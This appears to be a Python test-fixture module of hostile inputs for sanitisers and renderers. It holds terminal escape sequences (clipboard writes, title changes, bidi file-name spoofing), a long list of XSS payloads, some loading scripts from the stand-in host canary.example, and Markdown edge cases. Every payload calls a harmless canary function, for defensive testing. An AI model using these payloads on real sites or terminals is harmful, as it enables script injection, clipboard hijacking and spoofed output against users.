"""Texts that mean harm, by what they aim at. ``CANARY`` is what an attack would show or call."""

from __future__ import annotations

CANARY = "canary"

ESCAPES = {
    "colour": "\x1b[45;5mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "cursor": "\x1b[9A\x1b[1;1H\x1b7\x1b8",
    "title": f"\x1b]0;{CANARY}\x07 \x1b]2;{CANARY}\x1b\\",
    "clipboard": "\x1b]52;c;Y2FuYXJ5\x07",
    "hyperlink": f"\x1b]8;;https:{CANARY}.example\x1b\\link\x1b]8;;\x1b\\",
    "answerback": "\x1b[c\x1b[6n\x05",
    "strings": "\x1bPq\x1b\\ \x1b_x\x1b\\ \x1b^x\x1b\\ \x1bX",
    "bell": "\x07\x07",
    "backspace": "honest\x08\x08\x08\x08\x08\x08evil",
    "carriage return": "honest\rfake",
    "line break": "honest\nfake=line done=1",
    "vertical": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "c1": f"\x9b2J\x9d0;{CANARY}\x9c\x90q\x9c\x84\x8d",
    "charset": "\x1b(0\x0eqqq\x0f",
    "delete": "a\x7fb",
    "bidi": "\u202egnp.exe\u2066x\u2069\u200e\u200f\u061c",
    "hidden": "a\u200bb\u2060c\ufeffd\U000e0041e\u00adf",
}
"""What a terminal obeys, or what hides or turns text."""

_CALL = f"{CANARY}(1)"
_FROM = f"//{CANARY}.example"
SCRIPTS = {
    "script": f"<script>{_CALL}</script>",
    "script elsewhere": f"<script src={_FROM}/x.js></script>",
    "script half": f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    "script case": f"<ScRiPt\n>{_CALL}</sCrIpT\t>",
    "script slash": f"<script/x>{_CALL}</script/x>",
    "onerror": f"<img src=x onerror={_CALL}>",
    "onerror quoted": f'"><img src="x" onerror="{_CALL}">',
    "onerror single": f"'><img src='x' onerror='{_CALL}'>",
    "onload": f"<body onload={_CALL}><svg/onload={_CALL}>",
    "animate": f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
    "set": f"<svg><a><set attributeName=href to=javascript:{_CALL} /><text>x</text></a></svg>",
    "use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}></svg>#x'/></svg>",
    "foreign": f"<svg><foreignObject><iframe onload={_CALL}></iframe></foreignObject></svg>",
    "javascript": f"<a href=javascript:{_CALL} autofocus onfocus={_CALL}>x</a>",
    "javascript hidden": f"<a href='java\tscript&colon;{_CALL}'>x</a>",
    "data": f"<iframe src='data:text/html,<script>parent.{_CALL}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>{_CALL}</script>'></object>",
    "embed": f"<embed src={_FROM}>",
    "srcdoc": f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=https:{_FROM}'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "style": f"<style>@import '{_FROM}/x.css';*{{background:url({_FROM}/y)}}</style>",
    "style end": f"</style><style>body{{background:url({_FROM}/z)}}",
    "style attribute": f'x" style="background:url({_FROM}/a);width:expression({_CALL})',
    "attribute": f'x" onmouseover="{_CALL}" autofocus onfocus="{_CALL}" tabindex=1 x="',
    "attribute bare": f"x onmouseover={_CALL} style=position:fixed;top:0;left:0;width:9999px",
    "title": f"</title><script>{_CALL}</script>",
    "base": f"<base href=https:{_FROM}/>",
    "link": f"<link rel=stylesheet href={_FROM}/x.css>",
    "preload": f"<link rel=preload as=script href={_FROM}/x>",
    "image": f"<img src={_FROM}/p.png srcset='{_FROM}/p2.png 2x'>",
    "media": f"<video poster={_FROM}/p src={_FROM}/v autoplay><audio src={_FROM}/a autoplay>",
    "form": f"<form action=javascript:{_CALL}><button formaction=javascript:{_CALL} autofocus>x",
    "details": f"<details open ontoggle={_CALL}><summary>x</summary></details>",
    "marquee": f"<marquee onstart={_CALL}>x</marquee>",
    "input": f"<input autofocus onfocus={_CALL}><select autofocus onfocus={_CALL}>",
    "template": f"<template shadowrootmode=open><img src=x onerror={_CALL}></template>",
    "mathml": f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    "mutation": f'<svg></p><style><a id="</style><img src=1 onerror={_CALL}>">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    "textarea": f"</textarea><img src=x onerror={_CALL}></xmp></plaintext>",
    "comment": f"--><script>{_CALL}</script><!--",
    "comment bang": f"<!--!><img src=x onerror={_CALL}>--!>",
    "conditional": f"<!--[if mso]><script>{_CALL}</script><![endif]-->",
    "cdata": f"]]><script>{_CALL}</script><![CDATA[",
    "processing": f"<?xml-stylesheet href='{_FROM}/x'?><!DOCTYPE x [<!ENTITY y SYSTEM 'z'>]>",
    "entities": f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={_CALL}&amp;gt;",
    "entities numbered": f"&#60;img src=x onerror={_CALL}&#62; &#x3c;svg onload={_CALL}&#x3e;",
    "full width": f"＜script＞{_CALL}＜/script＞ ﹤img src=x onerror={_CALL}﹥",
    "utf-7": f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    "separators": f"\u2028<script>{_CALL}</script>\u2029\x00<img src=x\x0conerror={_CALL}>",
    "hidden inside": f"<scr\u200bipt>{_CALL}</scr\u200bipt><i\u00admg src=x onerror={_CALL}>",
    "template language": "{{ 7*7 }}{% raw %}{{ config }}${7*7}#{7*7}<%= 7*7 %>",
    "polyglot": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=" + _CALL + " )//%0D%0A%0d%0a//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=" + _CALL + "//>\\x3e"
    ),
    "polyglot attribute": f'\'"`><svg onload={_CALL}>//\\"/**/;{_CALL};//',
    "json": f"</script><script>{_CALL}</script>\\u003cscript\\u003e",
}
"""Script, style and requests. ``canary`` is the function that the tests look for."""

MARKDOWN = [
    "# heading", "## heading ##", "- item", "+ item", "* item", "1. item", "2) item", "> quote",
    "---", "***", "___", "===", "    code", "\tcode", "```", "~~~ js", "`code`", "**b**", "__b__",
    "*i*", "_i_", "~~s~~", "~s~", "==m==", "++i++", "| a | b |", "|---|---|", "a | b\n--- | ---",
    "[x](https://canary.example)", "![x](https://canary.example/p.png)", "[1]", "[1][1]", "[[1]]",
    "[1]: https://canary.example", "[^1]: note", "[^1]", "- [x] done", "<https://canary.example>",
    "<b>b</b>", "<script>canary(1)</script>", "<!-- c -->", "<?php ?>", "<![CDATA[x]]>", "&copy;",
    "&#x3c;b&#62;", "&lt;b&gt;", "https://canary.example", "1http://canary.example",
    "éhttps://canary.example", "_http://canary.example", "HTTPS://CANARY.EXAMPLE",
    "ftp://canary.com", "www.canary.com", "xwww.canary.com", "(www.canary.com)", "canary.com/x",
    "évil.com", "//canary.com", "//localhost/x", "www.4canary.com", "www.x.de",
    "canary@evil.example",
    "mailto:canary@evil.example", "xmpp:c@evil.example", "javascript:canary(1)",
    "[x](javascript:canary(1))", "[x](<java\nscript:canary(1)>)", "\\", "\\\\", "\\[x](y)", "a\\",
    "$x$", "$$x$$", "x^2^", "H~2~O", "!", "![", "!\\[", "](x)", "a\r\n# heading", "a\n===",
    "a\u2028# heading", "a\n\n    code", "[x]:", ": definition", ":::", "{{ x }}", "{% x %}",
    "@canary", "#1", "> [!NOTE]", "<details open>", "a  \nb", "http&#58;//canary.com", "٣. item",
]  # fmt: skip
"""What a Markdown renderer makes something of."""
